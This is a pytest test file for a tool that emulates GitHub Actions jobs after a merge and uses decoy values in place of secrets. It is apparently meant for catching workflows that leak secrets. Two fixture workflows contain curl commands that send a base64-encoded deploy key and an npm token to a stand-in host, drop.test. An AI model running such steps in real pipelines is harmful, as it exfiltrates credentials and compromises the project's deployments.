"""Which changed jobs run after the merge, and how a runner would take their steps."""

from __future__ import annotations

from typing import Any

import pytest

from cujo_action.checks.workflow_jobs import (
    JobContext,
    JobRun,
    after_merge,
    choose,
    first_matrix,
    github_context,
    plain,
    plan_job,
    plan_step,
    secret_decoy,
    shell_command,
)

DEPLOY = """\
name: deploy
on:
  push:
    branches: [main]
env:
  STAGE: prod
jobs:
  deploy:
    runs-on: ubuntu-latest
    env:
      TARGET: ${{ env.STAGE }}-eu
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
      - uses: actions/setup-python@v5
        with: {python-version: "3.12"}
      - name: Post
        shell: bash
        working-directory: tools
        env:
          KEY: ${{ secrets.DEPLOY_KEY }}
        run: |
          echo "$TARGET ${{ github.ref }} ${{ github.event_name }}"
          curl -d "$(echo ${{ secrets.DEPLOY_KEY }} | base64)" https://drop.test/k
      - uses: some/other-action@v1
      - if: failure()
        run: echo failed
      - uses: actions/upload-artifact@v4
        with: {name: dist, path: "dist/*.whl"}
"""


def context(event_name: str = "push") -> JobContext:
    env = {"GITHUB_REF": "refs/heads/main", "GITHUB_SHA": "a" * 40,
           "GITHUB_REPOSITORY": "octo/proj", "PATH": "/usr/bin"}  # fmt: skip
    return JobContext(
        github=github_context(env, {"ref": "refs/heads/main"}, "ghs_decoy", event_name),
        runner={"os": "Linux"},
        secret=lambda name: f"<decoy {secret_decoy(name)}>",
        workspace="/home/runner/work/proj/proj",
        temp="/home/runner/work/_temp",
    )


def job_run(text: str = DEPLOY, job_id: str = "deploy", event: str = "push") -> JobRun:
    workflow = plain(text)
    assert workflow is not None
    return JobRun(".github/workflows/deploy.yml", job_id, event, "test", workflow)


# --------------------------------------------------------------------------- choosing


@pytest.mark.parametrize(
    ("on", "branch", "changed", "expected"),
    [
        ("push", "main", [], ["push"]),
        (["push", "pull_request"], "main", [], ["push"]),
        ({"pull_request": None}, "main", [], []),
        ({"push": {"branches": ["main"]}}, "main", [], ["push"]),
        ({"push": {"branches": ["release/*"]}}, "main", [], []),
        ({"push": {"branches": ["release/*"]}}, "release/1.0", [], ["push"]),
        ({"push": {"branches": ["release/*"]}}, "release/1/x", [], []),
        ({"push": {"branches": ["**", "!main"]}}, "main", [], []),
        ({"push": {"branches-ignore": ["dev*"]}}, "main", [], ["push"]),
        ({"push": {"tags": ["v*"]}}, "main", [], []),
        ({"push": {"paths": ["src/**"]}}, "main", ["docs/a.md"], []),
        ({"push": {"paths": ["src/**"]}}, "main", ["src/a/b.py"], ["push"]),
        (
            {"schedule": [{"cron": "0 0 * * *"}], "pull_request_target": None},
            "main",
            [],
            ["schedule", "pull_request_target"],
        ),
        (
            ["workflow_dispatch", "release", "workflow_run", "issue_comment"],
            "x",
            [],
            ["workflow_dispatch", "release", "workflow_run", "issue_comment"],
        ),
    ],
)
def test_triggers_that_run_after_the_merge(
    on: Any, branch: str, changed: list[str], expected: list[str]
) -> None:
    assert after_merge(on, branch, changed) == expected


BASE = """\
on: push
jobs:
  lint:
    steps: [{run: echo lint}]
  test:
    steps: [{run: ./scripts/test.sh}]
"""


def test_only_changed_jobs_of_changed_workflows_are_chosen() -> None:
    head = BASE.replace("echo lint", "echo lint2")
    runs, passed = choose(
        {".github/workflows/ci.yml": BASE},
        {".github/workflows/ci.yml": head},
        [".github/workflows/ci.yml"],
        "main",
    )
    assert [(r.job_id, r.event, r.why) for r in runs] == [("lint", "push", "the job is changed")]
    assert passed == []


def test_a_job_running_a_changed_script_is_chosen_though_its_workflow_is_not() -> None:
    runs, _ = choose(
        {".github/workflows/ci.yml": BASE}, {".github/workflows/ci.yml": BASE},
        ["scripts/test.sh"], "main",
    )  # fmt: skip
    assert [(r.job_id, r.why) for r in runs] == [
        ("test", "a run: step names the changed file scripts/test.sh")
    ]


def test_an_added_workflow_runs_every_job_and_a_pull_request_one_is_passed_with_why() -> None:
    pr_only = "on: pull_request\njobs:\n  a:\n    steps: [{run: echo}]\n"
    runs, passed = choose(
        {},
        {".github/workflows/ci.yml": BASE, ".github/workflows/pr.yml": pr_only,
         ".github/other.yml": BASE},
        [".github/workflows/ci.yml", ".github/workflows/pr.yml", ".github/other.yml"],
        "main",
    )  # fmt: skip
    assert [(r.path, r.job_id) for r in runs] == [
        (".github/workflows/ci.yml", "lint"),
        (".github/workflows/ci.yml", "test"),
    ]
    assert [p.path for p in passed] == [".github/workflows/pr.yml"]
    assert "none of its triggers" in passed[0].why


def test_on_stays_a_key_not_yaml_1_1_true() -> None:
    assert plain("on: push\njobs: {}\n") == {"on": "push", "jobs": {}}
    assert plain("- a\n") is None
    assert plain("{") is None


# --------------------------------------------------------------------------- the steps


def test_a_run_step_is_evaluated_with_its_shell_env_folder_and_decoys() -> None:
    plan = plan_job(job_run(), context())
    assert plan.skipped == ""
    assert plan.env == {"STAGE": "prod", "TARGET": "prod-eu"}
    kinds = [plan_step(plan, i, context()).kind for i in range(len(plan.steps))]
    assert kinds == ["emulated", "emulated", "run", "not-run", "skipped", "emulated"]
    post = plan_step(plan, 2, context())
    assert post.label == "Post"
    assert post.shell == "bash --noprofile --norc -eo pipefail {0}"
    assert post.working_directory == "tools"
    assert post.env["KEY"] == "<decoy SSH_PRIVATE_KEY>"
    assert post.env["TARGET"] == "prod-eu"
    assert post.script.splitlines() == [
        'echo "$TARGET refs/heads/main push"',
        'curl -d "$(echo <decoy SSH_PRIVATE_KEY> | base64)" https://drop.test/k',
    ]
    assert "${{ secrets.DEPLOY_KEY }}" in post.template
    assert plan.secrets_read == ["DEPLOY_KEY"]
    assert post.unevaluated == []


def test_a_secret_read_only_by_a_steps_env_is_recorded() -> None:
    text = DEPLOY.replace("echo ${{ secrets.DEPLOY_KEY }} | base64", "echo $KEY")
    plan = plan_job(job_run(text), context())
    post = plan_step(plan, 2, context())
    assert "<decoy" not in post.script
    assert plan.secrets_read == ["DEPLOY_KEY"]


def test_the_push_of_the_merge_is_the_event_when_push_is_among_the_triggers() -> None:
    text = DEPLOY.replace("on:\n  push:", "on:\n  workflow_dispatch:\n  push:")
    (run,) = choose({}, {".github/workflows/deploy.yml": text}, [], "main")[0]
    assert run.event == "push"


def test_emulated_and_not_run_actions_say_so() -> None:
    plan = plan_job(job_run(), context())
    checkout = plan_step(plan, 0, context())
    assert "merge tree" in checkout.note
    other = plan_step(plan, 3, context())
    assert (other.uses, other.kind) == ("some/other-action@v1", "not-run")
    upload = plan_step(plan, 5, context())
    assert "`dist/*.whl`" in upload.note


def test_a_failed_step_skips_the_next_unless_its_if_asks_for_failure() -> None:
    plan = plan_job(job_run(), context())
    plan.status.failed = True
    assert plan_step(plan, 2, context()).kind == "skipped"
    assert plan_step(plan, 4, context()).kind == "run"


def test_a_job_whose_if_is_false_after_the_merge_is_not_run() -> None:
    text = DEPLOY.replace(
        "    runs-on: ubuntu-latest\n", "    if: github.event_name == 'release'\n"
    )
    assert "is false" in plan_job(job_run(text), context()).skipped
    assert plan_job(job_run(text, event="release"), context("release")).skipped == ""


def test_an_expression_outside_the_subset_is_named_and_read_as_empty() -> None:
    text = DEPLOY.replace("${{ github.event_name }}", "${{ hashFiles('x') }}")
    plan = plan_job(job_run(text), context())
    post = plan_step(plan, 2, context())
    assert post.script.startswith('echo "$TARGET refs/heads/main "')
    assert len(post.unevaluated) == 1
    assert "hashFiles" in post.unevaluated[0]
    assert plan.unevaluated == post.unevaluated


def test_a_reusable_workflow_job_is_not_run() -> None:
    text = "on: push\njobs:\n  call:\n    uses: octo/wf/.github/workflows/x.yml@v1\n"
    assert "reusable workflow" in plan_job(job_run(text, "call"), context()).skipped


@pytest.mark.parametrize(
    ("shell", "command", "why"),
    [
        ("", "bash -e {0}", ""),
        ("sh", "sh -e {0}", ""),
        ("python", "python {0}", ""),
        ("perl {0}", "perl {0}", ""),
        ("pwsh", "", "not on this runner"),
        ("fish", "", "neither"),
    ],
)
def test_shells_as_github_runs_them(shell: str, command: str, why: str) -> None:
    got, _, said = shell_command(shell)
    assert got == command
    assert why in said


def test_the_first_matrix_combination() -> None:
    assert first_matrix({"matrix": {"py": ["3.11", "3.12"], "os": ["ubuntu"]}})[0] == {
        "py": "3.11", "os": "ubuntu",
    }  # fmt: skip
    assert first_matrix({"matrix": {"include": [{"py": "3.9"}, {"py": "3.8"}]}})[0] == {"py": "3.9"}
    assert "not evaluated" in first_matrix({"matrix": "${{ fromJSON(x) }}"})[1]


def test_the_matrix_and_inputs_reach_the_script() -> None:
    text = """\
on:
  workflow_dispatch:
    inputs:
      level: {default: high}
      dry: {type: boolean, default: "true"}
jobs:
  j:
    strategy: {matrix: {py: ["3.11", "3.12"]}}
    steps:
      - run: echo ${{ matrix.py }} ${{ inputs.level }} ${{ inputs.dry && 'dry' }}
"""
    ctx = context("workflow_dispatch")
    plan = plan_job(job_run(text, "j", "workflow_dispatch"), ctx)
    assert plan_step(plan, 0, ctx).script == "echo 3.11 high dry"


@pytest.mark.parametrize(
    ("name", "decoy"),
    [
        ("GITHUB_TOKEN", "GITHUB_TOKEN"),
        ("NPM_TOKEN", "NPM_TOKEN"),
        ("AWS_SECRET_ACCESS_KEY", "AWS_SECRET_ACCESS_KEY"),
        ("AWS_ACCESS_KEY_ID", "AWS_ACCESS_KEY_ID"),
        ("DEPLOY_KEY", "SSH_PRIVATE_KEY"),
        ("PYPI_API_TOKEN", "PYPI_TOKEN"),
    ],
)
def test_each_secret_stands_for_a_decoy_of_its_kind(name: str, decoy: str) -> None:
    assert secret_decoy(name) == decoy


def test_the_github_context_is_the_steps_variables_and_the_token() -> None:
    ctx = context()
    assert ctx.github["ref"] == "refs/heads/main"
    assert ctx.github["repository"] == "octo/proj"
    assert ctx.github["token"] == "ghs_decoy"
    assert "path" not in ctx.github


def test_what_a_step_sets_through_github_env_and_path_reaches_the_later_steps() -> None:
    text = DEPLOY.replace(
        "        env:\n          KEY:", "        env:\n          TARGET: own\n          KEY:"
    )
    plan = plan_job(job_run(text), context())
    before = "OLD=1\n"  # written before the job began: not the job's
    plan.carry(
        before,
        before + "URL=https://drop.test\nNOTE<<EOF\ntwo\nlines\nEOF\nTARGET=from-env-file\n",
        "/old/bin\n",
        "/old/bin\n/opt/a/bin\n/opt/b/bin\n",
    )
    assert plan.github_env == {"URL": "https://drop.test", "NOTE": "two\nlines",
                               "TARGET": "from-env-file"}  # fmt: skip
    assert plan.github_path == ["/opt/b/bin", "/opt/a/bin"]  # the latest first
    post = plan_step(plan, 2, context())
    assert post.env["URL"] == "https://drop.test"
    assert "OLD" not in post.env
    assert post.env["TARGET"] == "own"  # a step's own env: over what GITHUB_ENV set
    checkout = plan_step(plan, 4, context())  # `if: failure()`: the env still carried
    assert checkout.kind == "skipped"


GATED = """\
on: push
jobs:
  j:
    steps:
      - id: gate
        run: echo "go=yes" >> "$GITHUB_OUTPUT"
      - if: steps.gate.outputs.go == 'yes' && steps.gate.outcome == 'success'
        run: curl -d "${{ secrets.NPM_TOKEN }}" https://drop.test
"""


def test_a_step_gated_on_an_earlier_steps_output_runs_when_that_output_was_written() -> None:
    plan = plan_job(job_run(GATED, "j"), context())
    assert plan_step(plan, 1, context()).kind == "skipped"  # nothing written yet
    plan.record(0, "x=1\n", "x=1\ngo=yes\n", "success")
    assert plan.steps_ctx == {
        "gate": {"outputs": {"go": "yes"}, "outcome": "success", "conclusion": "success"}
    }
    gated = plan_step(plan, 1, context())
    assert gated.kind == "run"
    assert "<decoy NPM_TOKEN>" in gated.script


def test_a_matrix_made_by_an_expression_is_not_evaluated_and_said() -> None:
    text = DEPLOY.replace(
        "    runs-on: ubuntu-latest\n", "    strategy: {matrix: '${{ fromJSON(x) }}'}\n"
    )
    plan = plan_job(job_run(text), context())
    assert any("is an expression: not evaluated" in u for u in plan.unevaluated), plan


NEEDS = """\
on: push
jobs:
  deploy:
    needs: [build, test]
    runs-on: ubuntu-latest
    steps: [{run: echo deploy}]
  test:
    needs: build
    runs-on: ubuntu-latest
    steps: [{run: echo test}]
  build:
    runs-on: ubuntu-latest
    steps: [{run: echo build}]
  lint:
    needs: [gone]
    runs-on: ubuntu-latest
    steps: [{run: echo lint}]
"""


def test_jobs_run_in_the_order_their_needs_give_file_order_otherwise() -> None:
    runs, _ = choose({}, {".github/workflows/ci.yml": NEEDS}, [], "main")
    # A need on a job that is not there is no wait (GitHub would refuse the file; the
    # reading rules list it): lint keeps its place among the jobs that wait for nothing.
    assert [r.job_id for r in runs] == ["build", "test", "deploy", "lint"]


def test_jobs_caught_in_a_cycle_of_needs_keep_their_file_order_at_the_end() -> None:
    cycle = NEEDS.replace("    needs: build\n", "    needs: deploy\n")
    runs, _ = choose({}, {".github/workflows/ci.yml": cycle}, [], "main")
    assert [r.job_id for r in runs] == ["build", "lint", "deploy", "test"]
